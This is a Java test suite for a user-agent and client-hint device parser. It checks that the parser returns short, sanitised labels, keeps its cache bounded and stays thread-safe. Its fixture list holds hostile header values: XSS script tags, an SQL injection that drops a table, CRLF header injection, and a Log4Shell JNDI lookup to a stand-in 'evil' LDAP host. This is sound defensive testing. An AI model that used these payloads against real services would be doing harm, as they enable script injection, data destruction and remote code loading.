package dev.sojourn.device;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sojourn.Device;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.concurrent.CyclicBarrier;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class HostileHeaderTest {

    private static final UapDeviceParser PARSER = new UapDeviceParser();

    private static final String PHONE = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko)"
            + " Chrome/140.0.0.0 Mobile Safari/537.36";

    static Stream<String> hostile() {
        return Stream.of(
                "<script>alert(1)</script>/1.0",
                "Mozilla/5.0 (Linux; Android 14; <img src=x onerror=alert(1)>) Chrome/140 Mobile Safari/537.36",
                "Mozilla/5.0 (Linux; Android 14; \"';--&quot;) Chrome/140.0 Mobile Safari/537.36",
                "' OR '1'='1'; DROP TABLE sessions; --",
                "curl/8.7.1\r\nSet-Cookie: a=b",
                "Mozilla/5.0 (Linux; Android 14; Pixel\r\n8\0\u001b[31m) Chrome/140.0 Mobile Safari/537.36",
                "Mozilla/5.0 (Linux; Android 14; \u202egnp.exe\u2028\ud800\u0085\u00ad) Chrome/140.0 Mobile",
                "${jndi:ldap://evil/a}",
                "a".repeat(10_240),
                "(".repeat(10_240),
                " ".repeat(10_240) + "curl/8",
                "Mozilla/5.0 " + "(Linux; ".repeat(2_000),
                "Mozilla/5.0 (Linux; Android 14; " + "x".repeat(10_000) + ") Chrome/140.0 Mobile Safari/537.36",
                "Mozilla/" + "9".repeat(10_000),
                "Chrome/" + "9.".repeat(5_000),
                "Mozilla/5.0 (Windows NT 10.0) Chrome/" + "9".repeat(400) + " Safari/537.36",
                "Mozilla/5.0 (iPhone; CPU iPhone OS " + "1_".repeat(200) + " like Mac OS X)",
                "; ".repeat(5_000) + "Build/",
                "\\Opera +".repeat(1_000),
                "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa! ".repeat(250));
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void hostileUserAgent_givesShortHarmlessLabels(String value) {
        assertHarmless(PARSER.parse(name -> name.equals("User-Agent") ? value : null));
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void hostileHints_giveShortHarmlessLabels(String value) {
        String quoted = "\"" + value + "\";v=\"" + value + "\"";

        assertHarmless(PARSER.parse(name -> name.equals("User-Agent") ? PHONE : value));
        assertHarmless(PARSER.parse(name -> name.equals("User-Agent") ? PHONE : quoted));
        assertHarmless(PARSER.parse(name -> quoted));
    }

    @Property(tries = 200)
    void anyText_givesShortHarmlessLabels(@ForAll String userAgent, @ForAll String hint) {
        assertHarmless(PARSER.parse(name -> name.equals("User-Agent") ? userAgent : "\"" + hint + "\";v=\"1\""));
    }

    @Test
    void floodOfDifferentHeaders_keepsNoMoreThanTheBound() {
        UapDeviceParser parser = new UapDeviceParser();
        int flood = UapDeviceParser.MAX_ENTRIES + 200;

        for (int i = 0; i < flood; i++) {
            String userAgent = "flood/" + i;
            String brand = "\"brand " + i + "\";v=\"1\"";
            parser.parse(name -> name.equals("User-Agent") ? userAgent : brand);
        }

        assertThat(parser.cached()).isPositive().isLessThanOrEqualTo(UapDeviceParser.MAX_ENTRIES);
    }

    @Test
    void differencesBeyondTheCut_areOneReading() {
        UapDeviceParser parser = new UapDeviceParser();
        String start = PHONE + " ".repeat(512 - PHONE.length());

        for (int i = 0; i < 20; i++) {
            String userAgent = start + "tail " + i;
            parser.parse(name -> name.equals("User-Agent") ? userAgent : null);
        }

        assertThat(parser.cached()).isEqualTo(1);
    }

    @Test
    void differentPlatformVersions_shareOneReading() {
        assertThat(readingsWithDifferent("Sec-CH-UA-Platform-Version")).isEqualTo(1);
    }

    @Test
    void differentModels_areReadingsOfTheirOwn() {
        assertThat(readingsWithDifferent("Sec-CH-UA-Model")).isEqualTo(20);
    }

    private static long readingsWithDifferent(String hint) {
        UapDeviceParser parser = new UapDeviceParser();
        for (int i = 0; i < 20; i++) {
            Map<String, String> headers = Map.of("User-Agent", PHONE, hint, "\"" + i + ".0.0\"");
            parser.parse(headers::get);
        }
        return parser.cached();
    }

    @Test
    void manyThreads_readTheSameAsOne() throws Exception {
        int threads = 32;
        List<String> userAgents = IntStream.range(0, 60)
                .mapToObj(i -> "Mozilla/5.0 (X11; Linux x86_64; rv:%d.0) Gecko/20100101 Firefox/%d.0"
                        .formatted(100 + i, 100 + i))
                .toList();
        UapDeviceParser shared = new UapDeviceParser();
        CyclicBarrier start = new CyclicBarrier(threads);
        ExecutorService pool = Executors.newFixedThreadPool(threads);
        try {
            List<Future<List<Device>>> results = new ArrayList<>();
            for (int t = 0; t < threads; t++) {
                results.add(pool.submit(() -> {
                    start.await();
                    return userAgents.stream()
                            .map(ua -> shared.parse(name -> name.equals("User-Agent") ? ua : null))
                            .toList();
                }));
            }
            for (Future<List<Device>> result : results) {
                assertThat(result.get())
                        .extracting(Device::browserVersion)
                        .containsExactlyElementsOf(IntStream.range(100, 160)
                                .mapToObj(Integer::toString)
                                .toList());
            }
        } finally {
            pool.shutdownNow();
        }
        assertThat(shared.cached()).isEqualTo(userAgents.size());
    }

    private static void assertHarmless(Device device) {
        List<String> fields = Stream.of(
                        device.browser(), device.browserVersion(), device.os(), device.osVersion(), device.family())
                .filter(Objects::nonNull)
                .toList();
        assertThat(fields)
                .allSatisfy(field -> assertThat(field).hasSizeBetween(1, 64).matches("[\\p{L}\\p{N} .,\\-_+()/]+"));
    }
}
